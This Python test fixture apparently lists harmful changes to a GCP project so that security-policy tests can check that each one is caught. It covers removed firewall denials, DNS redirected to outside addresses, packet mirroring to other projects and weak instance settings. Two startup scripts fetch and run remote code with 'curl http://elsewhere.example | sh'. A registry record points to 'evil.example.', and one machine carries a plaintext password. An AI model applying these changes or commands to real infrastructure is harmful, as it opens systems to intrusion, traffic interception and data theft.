"""Harmful changes of networks, names and machines."""

from __future__ import annotations

from tests.policies.mutations.gcp.words import MODELS, NETWORK, PROJECT, gcp, instance
from tests.policies.reach.planting import GONE, Change, edit, remove

_RULE = {"action": "allow", "priority": 2147483647, "match": {"versionedExpr": "SRC_IPS_V1"}}

REACH: dict[str, Change] = {
    "the denial gone": remove("compute/firewall:Firewall", "deny-ingress"),
    "the denial off": edit("compute/firewall:Firewall", "disabled", True, "deny-ingress"),
    "the denial not written down": edit("compute/firewall:Firewall", "logConfig", GONE, "deny-ingress"),
    "the denial of one protocol": edit("compute/firewall:Firewall", "denies", [{"protocol": "udp"}], "deny-ingress"),
    "the denial of a half": edit("compute/firewall:Firewall", "sourceRanges", ["0.0.0.0/1"], "deny-ingress"),
    "a rule by accounts": gcp(
        "compute/firewall",
        network=NETWORK,
        direction="INGRESS",
        sourceRanges=["0.0.0.0/0"],
        targetServiceAccounts=["x@y"],
        allows=[{"protocol": "tcp", "ports": ["443"]}],
    ),
    "a rule with a tag that anyone sets": gcp(
        "compute/firewall", network=NETWORK, sourceTags=["x"], allows=[{"protocol": "all"}]
    ),
    "a policy instead of rules": gcp("compute/networkFirewallPolicy", name="p", project=PROJECT),
    "a policy joined": gcp(
        "compute/networkFirewallPolicyAssociation", firewallPolicy="elsewhere", attachmentTarget=NETWORK, name="x"
    ),
    "a policy before rules": edit(
        "compute/network:Network", "networkFirewallPolicyEnforcementOrder", "BEFORE_CLASSIC_FIREWALL", "network"
    ),
    "subnets by themselves": edit("compute/network:Network", "autoCreateSubnetworks", True, "network"),
    "a second network": gcp("compute/network", name="x", project=PROJECT),
    "a default network": gcp("organizations/project", projectId="x", name="x", autoCreateNetwork=True),
    "no private access": edit("compute/subnetwork:Subnetwork", "privateIpGoogleAccess", False, "subnet"),
    "a subnet not written down": edit("compute/subnetwork:Subnetwork", "logConfig", GONE, "standby"),
    "a subnet of proxies": gcp(
        "compute/subnetwork",
        network=NETWORK,
        purpose="REGIONAL_MANAGED_PROXY",
        role="ACTIVE",
        ipCidrRange="10.99.0.0/23",
    ),
    "a router": gcp("compute/router", network=NETWORK, bgp={"asn": 64514}),
    "a translation": gcp(
        "compute/routerNat", router="r", sourceSubnetworkIpRangesToNat="ALL_SUBNETWORKS_ALL_IP_RANGES"
    ),
    "a way to a stranger's service": gcp(
        "compute/forwardingRule",
        network=NETWORK,
        loadBalancingScheme="",
        target="projects/elsewhere/regions/europe-west4/serviceAttachments/x",
    ),
    "a way to a stranger's service, globally": gcp(
        "compute/globalForwardingRule", network=NETWORK, loadBalancingScheme="", target="all-apis"
    ),
    "an attachment for strangers": gcp(
        "compute/networkAttachment", connectionPreference="ACCEPT_AUTOMATIC", subnetworks=["s"]
    ),
    "a mirror of packets": gcp(
        "compute/packetMirroring",
        network={"url": NETWORK},
        collectorIlb={"url": "projects/elsewhere/regions/europe-west4/forwardingRules/x"},
        mirroredResources={"tags": ["seawall-prod-node"]},
    ),
    "an internal load balancer for other regions": gcp(
        "compute/forwardingRule",
        loadBalancingScheme="INTERNAL",
        network=NETWORK,
        allPorts=True,
        allowGlobalAccess=True,
    ),
    "a peering of services that exports routes": edit(
        "servicenetworking/connection:Connection", "service", "elsewhere.example.com", "managed-services"
    ),
    "a spoke": gcp("networkconnectivity/spoke", hub="projects/elsewhere/hubs/x", linkedVpcNetwork={"uri": NETWORK}),
    "a policy of connections": gcp(
        "networkconnectivity/serviceConnectionPolicy",
        network=NETWORK,
        serviceClass="x",
        pscConfig={"subnetworks": []},
    ),
    "names go public": gcp("dns/managedZone", dnsName="serving.example.com.", name="x", project=PROJECT),
    "names without signature": gcp(
        "dns/managedZone",
        dnsName="serving.example.com.",
        name="x",
        visibility="public",
        dnssecConfig={"state": "off"},
    ),
    "names forwarded to strangers": edit(
        "dns/managedZone:ManagedZone",
        "forwardingConfig",
        {"targetNameServers": [{"ipv4Address": "203.0.113.9"}]},
        "googleapis",
    ),
    "names peered to strangers": edit(
        "dns/managedZone:ManagedZone",
        "peeringConfig",
        {"targetNetwork": {"networkUrl": "projects/elsewhere/global/networks/x"}},
        "googleapis",
    ),
    "Google's APIs at a stranger's address": edit(
        "dns/recordSet:RecordSet", "rrdatas", ["203.0.113.9"], "googleapis"
    ),
    "Google's APIs at the public addresses": edit(
        "dns/recordSet:RecordSet", "rrdatas", ["199.36.153.8"], "googleapis"
    ),
    "the registry's names at a stranger": edit("dns/recordSet:RecordSet", "rrdatas", ["evil.example."], "pkg-all"),
    "a name of its own in Google's zone": gcp(
        "dns/recordSet",
        managedZone="seawall-prod-googleapis-private",
        name="storage.googleapis.com.",
        type="A",
        rrdatas=["203.0.113.9"],
    ),
    "answers made up": gcp(
        "dns/responsePolicyRule",
        responsePolicy="p",
        ruleName="x",
        dnsName="storage.googleapis.com.",
        localData={"localDatas": [{"name": "storage.googleapis.com.", "type": "A", "rrdatas": ["203.0.113.9"]}]},
    ),
    "a policy of names inbound": gcp(
        "dns/policy",
        name="x",
        enableInboundForwarding=True,
        networks=[{"networkUrl": NETWORK}],
        alternativeNameServerConfig={"targetNameServers": [{"ipv4Address": "203.0.113.9"}]},
    ),
    "the zone of Google's APIs gone": remove("dns/managedZone:ManagedZone", "googleapis"),
    "an armour that allows all": gcp("compute/securityPolicy", name="x", rules=[_RULE]),
    "an armour in preview": gcp(
        "compute/securityPolicy",
        name="x",
        rules=[{**_RULE, "action": "deny(403)"}, {"action": "deny(403)", "priority": 1, "preview": True}],
    ),
    "an armour's rule that allows all": gcp(
        "compute/securityPolicyRule",
        securityPolicy="x",
        action="allow",
        priority=1,
        match={"versionedExpr": "SRC_IPS_V1", "config": {"srcIpRanges": ["*"]}},
    ),
    "a backend without armour": gcp(
        "compute/backendService", name="x", loadBalancingScheme="EXTERNAL_MANAGED", protocol="HTTP"
    ),
    "a bucket behind a load balancer": gcp("compute/backendBucket", bucketName=MODELS, enableCdn=True, name="x"),
    "an old TLS": gcp("compute/sSLPolicy", name="x", minTlsVersion="TLS_1_0", profile="COMPATIBLE"),
    "a proxy without TLS": gcp("compute/targetHttpProxy", urlMap="u", name="x"),
    "a machine with a start script": instance(metadataStartupScript="curl http://elsewhere.example | sh"),
    "a machine with a secret": instance(metadata={"password": "hunter2hunter2", "enable-oslogin": "true"}),
    "a machine with a serial port": instance(metadata={"serial-port-enable": "TRUE"}),
    "a machine without OS Login": instance(metadata={"enable-oslogin": "FALSE"}),
    "a machine that forwards": instance(canIpForward=True),
    "a machine of the default account": instance(serviceAccount={"scopes": ["cloud-platform"]}),
    "a machine without a key": instance(bootDisk={}),
    "a machine not shielded": instance(shieldedInstanceConfig={"enableSecureBoot": False}),
    "a template with a start script": gcp(
        "compute/instanceTemplate",
        machineType="e2-small",
        disks=[{"sourceImage": "debian"}],
        metadataStartupScript="curl http://elsewhere.example | sh",
    ),
    "a group's address for all": gcp(
        "compute/regionInstanceTemplate",
        machineType="e2-small",
        disks=[{"sourceImage": "debian"}],
        networkInterfaces=[{"accessConfigs": [{}]}],
    ),
    "keys of persons for the project": gcp(
        "compute/projectMetadata", metadata={"ssh-keys": "x:ssh-rsa AAAA", "enable-oslogin": "FALSE"}
    ),
    "one key of the project": gcp("compute/projectMetadataItem", key="serial-port-enable", value="TRUE"),
    "a disk without a key": gcp("compute/disk", name="x", zone="europe-west4-a"),
    "a snapshot elsewhere": gcp("compute/snapshot", name="x", sourceDisk="d", storageLocations=["us"]),
    "an image without a key": gcp("compute/image", name="x", sourceDisk="d"),
    "a perimeter in dry run": gcp(
        "accesscontextmanager/servicePerimeter", parent="p", title="x", useExplicitDryRunSpec=True, spec={}
    ),
    "an access level for all": gcp(
        "accesscontextmanager/accessLevel",
        parent="p",
        title="x",
        basic={"conditions": [{"ipSubnetworks": ["0.0.0.0/0"]}]},
    ),
}
